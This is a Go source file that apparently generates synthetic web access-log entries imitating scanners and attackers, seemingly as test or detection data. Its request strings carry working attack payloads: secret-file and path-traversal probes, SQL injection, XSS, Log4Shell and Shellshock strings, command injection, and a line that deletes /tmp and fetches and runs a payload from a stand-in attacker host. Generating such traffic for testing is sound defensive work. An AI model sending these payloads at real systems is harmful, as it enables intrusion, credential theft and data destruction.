package accesslog

import (
	"net/netip"
	"strconv"
	"strings"
)

// scanner is a request of one of a few attackers.
func (g *Generator) scanner(method, uri, agent string) Request {
	r := g.program(method, pick(g, "www.shop.example", "www.shop.example", "198.18.7.7"), uri, agent, "*/*")
	r.add("Accept-Encoding", "gzip")
	r.Client = netip.AddrPortFrom(pick(g, g.scanners...), g.port())
	r.Status = pick(g, 404, 404, 404, 403, 200, 301)
	return r
}

func (g *Generator) scannerAgent() string {
	return pick(g, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", "Mozilla/5.0 zgrab/0.x", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:"+g.letters(6, digits)+")", "python-requests/2.28.1", "Go-http-client/1.1", "l9explore/1.2.2",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "", "curl/7.61.1")
}

// probe looks for what should not be there.
func (g *Generator) probe() Request {
	return g.scanner("GET", pick(g,
		"/.env", "/.env.production", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-config.php.bak", "/wp-config.php~", "/backup.sql", "/dump.sql.gz", "/config.json", "/.ssh/id_rsa", "/.DS_Store", "/web.config", "/.htpasswd",
		"/phpinfo.php", "/phpmyadmin/scripts/setup.php", "/actuator/env", "/actuator/heapdump", "/server-status", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin?username=admin&psd=admin",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/..%252f..%252f..%252fetc/passwd", "/download?file=../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/windows/win.ini", "/index.php?page=php://filter/convert.base64-encode/resource=config",
		"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/?XDEBUG_SESSION_START=phpstorm", "/console/", "/"+g.letters(8, alnum)+".php"), g.scannerAgent())
}

// injection attacks what is there.
func (g *Generator) injection() Request {
	agent := g.scannerAgent()
	n := strconv.Itoa(g.between(1000, 9999))
	uri := pick(g,
		"/search?q="+component("x' OR '1'='1' -- "+n), "/p/1?id="+component("-1 UNION ALL SELECT NULL,CONCAT(0x71,"+n+"),NULL FROM information_schema.tables-- -"), "/c/men?sort="+component("1 AND (SELECT "+n+" FROM (SELECT(SLEEP(5)))a)"),
		"/search?q="+component("<script>alert("+n+")</script>"), "/search?q="+component("\"><img src=x onerror=alert("+n+")>"), "/profile?name="+component("{{7*7}}${"+n+"*7}"),
		"/?x="+component("${jndi:ldap://198.18.9.9:1389/"+g.hex(6)+"}"), "/", "/ping?host="+component("127.0.0.1;cat /etc/passwd"), "/shell?cd+/tmp;rm+-rf+*;wget+http://198.18.9.9/jaws;sh+/tmp/jaws",
		"/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]="+n, "/?file="+component("http://198.18.9.9/shell.txt?"))
	if uri == "/" {
		agent = pick(g, "${${lower:j}ndi:ldap://198.18.9.9/"+g.hex(4)+"}", "() { :; }; /bin/bash -c 'wget http://198.18.9.9/x'", "sqlmap/1.8#stable (https://sqlmap.org)")
	}
	return g.scanner("GET", uri, agent)
}

// bruteForce guesses passwords. One such request looks like any login.
func (g *Generator) bruteForce() Request {
	r := g.scanner("POST", "/wp-login.php", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:62.0) Gecko/20100101 Firefox/62.0")
	body := "log=admin&pwd=" + strings.ToLower(g.letters(8, alnum)) + "&wp-submit=Log+In&testcookie=1"
	if g.odds(0.4) {
		r.URI, body = "/xmlrpc.php", "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>"+g.letters(8, alnum)+"</value></param></params></methodCall>"
		r.post("text/xml", body)
	} else {
		r.post("application/x-www-form-urlencoded", body)
	}
	r.Status = 200
	return r
}
